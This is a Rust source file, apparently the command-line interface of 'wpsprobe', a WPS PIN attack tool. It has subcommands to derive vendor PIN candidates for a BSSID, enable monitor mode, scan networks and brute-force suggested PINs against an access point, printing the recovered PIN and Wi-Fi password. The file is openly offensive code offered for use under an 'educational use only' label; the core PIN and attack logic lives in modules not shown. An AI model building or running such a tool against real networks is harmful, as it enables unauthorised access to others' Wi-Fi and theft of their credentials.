use std::future::Future;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, Result};
use clap::{Parser, Subcommand};
use serde::Serialize;
use tokio::sync::mpsc;
use tracing::warn;

use wpsprobe::workers::{
    attack_async, disable_monitor_async, enable_monitor_async, scan_async, stop_async,
};
use wpsprobe::{
    interface, pins, scan, system, vendor, wps, AttackOrchestrator, Config, HardwareAddress,
    InterfaceState, NetworkRecord, OrchestratorEvent, PinCandidate, ProcessSupervisor, WpsError,
};

#[derive(Parser)]
#[command(name = "wpsprobe")]
#[command(author, version, about = "WPS PIN derivation and attack orchestration - Educational use only")]
#[command(propagate_version = true)]
pub struct Cli {
    /// Path to configuration file
    #[arg(short, long, global = true)]
    pub config: Option<PathBuf>,

    /// Enable debug logging
    #[arg(short, long, global = true)]
    pub debug: bool,

    /// Print results as JSON
    #[arg(long, global = true)]
    pub json: bool,

    #[command(subcommand)]
    pub command: Commands,
}

#[derive(Subcommand)]
pub enum Commands {
    /// Derive WPS PIN candidates for a BSSID
    ///
    /// By default only the algorithms matching the vendor prefix are used.
    ///
    /// Example: wpsprobe pins D8:EB:97:12:34:56 --all
    Pins {
        /// Target BSSID
        mac: String,

        /// Derive with every registered algorithm
        #[arg(short, long)]
        all: bool,

        /// With --all, leave out static vendor PINs
        #[arg(long)]
        no_static: bool,
    },

    /// Show which algorithms the vendor prefix suggests
    Suggest {
        /// Target BSSID
        mac: String,
    },

    /// Parse an airodump-ng CSV export offline
    Parse {
        #[arg(value_name = "CSV")]
        csv: PathBuf,
    },

    /// List wireless interfaces
    Interfaces,

    /// Check privileges, driver support and installed tools
    Check,

    /// Enable monitor mode, scan, then restore managed mode
    Scan {
        /// Capture window in seconds
        #[arg(short = 't', long)]
        duration: Option<u64>,

        /// Leave the interface in monitor mode afterwards
        #[arg(long)]
        keep_monitor: bool,
    },

    /// Try suggested PINs against an access point (Ctrl-C to stop)
    ///
    /// Example: wpsprobe attack 14:D6:4D:AB:CD:EF --essid Office
    Attack {
        /// Target BSSID
        bssid: String,

        /// Target network name
        #[arg(short, long)]
        essid: Option<String>,

        /// Leave the interface in monitor mode afterwards
        #[arg(long)]
        keep_monitor: bool,
    },

    /// Switch monitor mode on or off
    Monitor {
        #[command(subcommand)]
        action: MonitorAction,
    },

    /// Write the effective configuration to a file
    GenConfig {
        /// Output path (defaults to ./wpsprobe.toml)
        #[arg(short, long)]
        output: Option<PathBuf>,
    },
}

#[derive(Subcommand)]
pub enum MonitorAction {
    /// Put the first wireless interface into monitor mode
    On,
    /// Return a monitor interface to managed mode
    Off {
        /// Monitor interface, e.g. wlan0mon
        interface: String,
    },
}

pub async fn run_command(cli: Cli) -> Result<()> {
    let config = match &cli.config {
        Some(path) => Config::load(path)?,
        None => Config::load_or_default()?,
    };
    let json = cli.json;

    match cli.command {
        Commands::Pins {
            mac,
            all,
            no_static,
        } => cmd_pins(&mac, all, no_static, json),
        Commands::Suggest { mac } => cmd_suggest(&mac, json),
        Commands::Parse { csv } => cmd_parse(csv, json),
        Commands::Interfaces => cmd_interfaces(config, json),
        Commands::Check => cmd_check(config, json),
        Commands::Scan {
            duration,
            keep_monitor,
        } => cmd_scan(config, duration, keep_monitor, json).await,
        Commands::Attack {
            bssid,
            essid,
            keep_monitor,
        } => cmd_attack(config, bssid, essid, keep_monitor, json).await,
        Commands::Monitor { action } => cmd_monitor(config, action, json).await,
        Commands::GenConfig { output } => cmd_gen_config(config, output),
    }
}

fn print_json<T: Serialize>(value: &T) -> Result<()> {
    println!("{}", serde_json::to_string_pretty(value)?);
    Ok(())
}

fn print_candidates(candidates: &[PinCandidate]) {
    for c in candidates {
        let pin = if c.is_empty() { "<empty>" } else { c.pin.as_str() };
        println!("  {:<10} {}", pin, c.name);
    }
}

fn print_networks(networks: &[NetworkRecord]) {
    println!(
        "{:<19} {:>4} {:>5} {:<10} {:<24} PINS",
        "BSSID", "CH", "PWR", "ENC", "ESSID"
    );
    for net in networks {
        let pins: Vec<&str> = net.wps_pins.iter().map(|c| c.pin.as_str()).collect();
        println!(
            "{:<19} {:>4} {:>5} {:<10} {:<24} {}",
            net.bssid.as_str(),
            net.channel.map(|c| c.to_string()).unwrap_or_default(),
            net.power.map(|p| p.to_string()).unwrap_or_default(),
            net.encryption,
            net.essid,
            pins.join(",")
        );
    }
}

fn cmd_pins(mac: &str, all: bool, no_static: bool, json: bool) -> Result<()> {
    let mac = HardwareAddress::parse(mac)?;
    let candidates = if all {
        pins::all(&mac, !no_static)
    } else {
        vendor::suggested(&mac)
    };

    if json {
        return print_json(&candidates);
    }

    if candidates.is_empty() {
        println!("No suggested PINs for {} (try --all)", mac);
    } else {
        println!("PIN candidates for {}:", mac);
        print_candidates(&candidates);
    }
    Ok(())
}

#[derive(Serialize)]
struct Suggestion {
    bssid: String,
    algorithms: Vec<&'static str>,
    likely: Option<String>,
}

fn cmd_suggest(mac: &str, json: bool) -> Result<()> {
    let mac = HardwareAddress::parse(mac)?;
    let suggestion = Suggestion {
        bssid: mac.to_string(),
        algorithms: vendor::suggest(&mac),
        likely: vendor::likely(&mac),
    };

    if json {
        return print_json(&suggestion);
    }

    if suggestion.algorithms.is_empty() {
        println!("{}: unknown vendor, no suggestion", suggestion.bssid);
    } else {
        println!("{}: {}", suggestion.bssid, suggestion.algorithms.join(", "));
        if let Some(pin) = &suggestion.likely {
            println!("Likely PIN: {}", pin);
        }
    }
    Ok(())
}

fn cmd_parse(csv: PathBuf, json: bool) -> Result<()> {
    let raw = std::fs::read(&csv).with_context(|| format!("Failed to read {}", csv.display()))?;
    let report = scan::parse_with_report(&String::from_utf8_lossy(&raw));

    for err in &report.skipped {
        warn!("{}", err);
    }

    if json {
        return print_json(&report.networks);
    }

    print_networks(&report.networks);
    println!(
        "\n{} networks, {} rows skipped",
        report.networks.len(),
        report.skipped.len()
    );
    Ok(())
}

fn cmd_interfaces(config: Config, json: bool) -> Result<()> {
    let runner = ProcessSupervisor::default();
    let interfaces = interface::list_wireless_interfaces(&runner, &config.tools)?;

    if json {
        return print_json(&interfaces);
    }

    if interfaces.is_empty() {
        println!("No wireless interfaces found");
    }
    for iface in interfaces {
        println!("{}", iface);
    }
    Ok(())
}

#[derive(Serialize)]
struct CheckReport {
    system: system::SystemInfo,
    monitor_capable: bool,
    tools: std::collections::BTreeMap<String, bool>,
    reaver_version: Option<String>,
}

fn cmd_check(config: Config, json: bool) -> Result<()> {
    let runner = ProcessSupervisor::default();
    let report = CheckReport {
        system: system::system_info(),
        monitor_capable: system::check_monitor_capability(&runner, &config.tools),
        tools: system::check_dependencies(&runner, &config.tools),
        reaver_version: wps::tool_version(&runner, &config.tools.reaver),
    };

    if json {
        return print_json(&report);
    }

    println!("OS:       {}", report.system.os);
    println!("Kernel:   {}", report.system.kernel);
    println!("Root:     {}", if report.system.root { "yes" } else { "no" });
    println!("Monitor:  {}", if report.monitor_capable { "supported" } else { "not detected" });
    println!("\nTools:");
    for (tool, installed) in &report.tools {
        println!("  {:<14} {}", tool, if *installed { "ok" } else { "missing" });
    }
    if let Some(version) = &report.reaver_version {
        println!("\n{}", version);
    }
    Ok(())
}

/// Await `task`, turning Ctrl-C into an orchestrator stop
async fn until_interrupted<T>(
    orchestrator: &Arc<AttackOrchestrator>,
    task: impl Future<Output = Result<T, WpsError>>,
) -> Result<T, WpsError> {
    tokio::pin!(task);
    tokio::select! {
        result = &mut task => result,
        _ = tokio::signal::ctrl_c() => {
            warn!("Interrupted, stopping...");
            stop_async(orchestrator).await?;
            task.await
        }
    }
}

/// Print attempt progress until the orchestrator drops its sender
fn spawn_event_printer(mut rx: mpsc::UnboundedReceiver<OrchestratorEvent>) -> tokio::task::JoinHandle<()> {
    tokio::spawn(async move {
        while let Some(event) = rx.recv().await {
            match event {
                OrchestratorEvent::AttemptStarted { index, total, pin } => {
                    eprintln!("[{}/{}] Trying PIN {}", index + 1, total, pin);
                }
                OrchestratorEvent::Found { pin, password } => {
                    eprintln!("PIN found: {}", pin);
                    if let Some(password) = password {
                        eprintln!("Password: {}", password);
                    }
                }
                _ => {}
            }
        }
    })
}

async fn restore(orchestrator: &Arc<AttackOrchestrator>, keep_monitor: bool) {
    if keep_monitor {
        return;
    }
    if let Err(e) = disable_monitor_async(orchestrator).await {
        warn!("Failed to restore managed mode: {}", e);
    }
}

async fn cmd_scan(config: Config, duration: Option<u64>, keep_monitor: bool, json: bool) -> Result<()> {
    let duration = duration
        .map(Duration::from_secs)
        .unwrap_or_else(|| config.scan.duration());
    let orchestrator = Arc::new(AttackOrchestrator::from_config(config));

    enable_monitor_async(&orchestrator).await?;
    let result = until_interrupted(&orchestrator, scan_async(&orchestrator, duration)).await;
    restore(&orchestrator, keep_monitor).await;
    let networks = result?;

    if json {
        return print_json(&networks);
    }
    print_networks(&networks);
    Ok(())
}

async fn cmd_attack(
    config: Config,
    bssid: String,
    essid: Option<String>,
    keep_monitor: bool,
    json: bool,
) -> Result<()> {
    // Reject a bad BSSID before touching the interface
    HardwareAddress::parse(&bssid)?;

    let (tx, rx) = mpsc::unbounded_channel();
    let orchestrator = Arc::new(AttackOrchestrator::from_config(config).with_events(tx));
    let printer = spawn_event_printer(rx);

    enable_monitor_async(&orchestrator).await?;
    let result = until_interrupted(&orchestrator, attack_async(&orchestrator, bssid, essid)).await;
    restore(&orchestrator, keep_monitor).await;

    drop(orchestrator);
    let _ = printer.await;
    let outcome = result?;

    if json {
        return print_json(&outcome);
    }

    if outcome.success {
        println!("WPS PIN:  {}", outcome.pin.as_deref().unwrap_or("?"));
        println!("Password: {}", outcome.password.as_deref().unwrap_or("(not recovered)"));
    } else {
        println!(
            "{} ({} attempts)",
            outcome.error.as_deref().unwrap_or("Attack failed"),
            outcome.attempts
        );
    }
    Ok(())
}

async fn cmd_monitor(config: Config, action: MonitorAction, json: bool) -> Result<()> {
    match action {
        MonitorAction::On => {
            let orchestrator = Arc::new(AttackOrchestrator::from_config(config));
            let state = enable_monitor_async(&orchestrator).await?;
            if json {
                return print_json(&state);
            }
            println!("Monitor mode enabled on {}", state.monitor);
        }
        MonitorAction::Off { interface: iface } => {
            if config.monitor.require_root && !system::is_root() {
                return Err(WpsError::PermissionDenied("disable monitor mode".to_string()).into());
            }
            let managed = iface
                .strip_suffix("mon")
                .filter(|name| !name.is_empty())
                .unwrap_or(&iface)
                .to_string();
            let state = InterfaceState {
                managed,
                monitor: iface.clone(),
                active: true,
            };
            let runner = ProcessSupervisor::default();
            interface::disable_monitor_mode(&runner, &config.tools, &config.monitor, &state)?;
            if json {
                return print_json(&state);
            }
            println!("{} returned to managed mode", state.managed);
        }
    }
    Ok(())
}

fn cmd_gen_config(config: Config, output: Option<PathBuf>) -> Result<()> {
    let path = output.unwrap_or_else(|| PathBuf::from("wpsprobe.toml"));
    config.save(&path)?;
    println!("Configuration written to {}", path.display());
    Ok(())
}
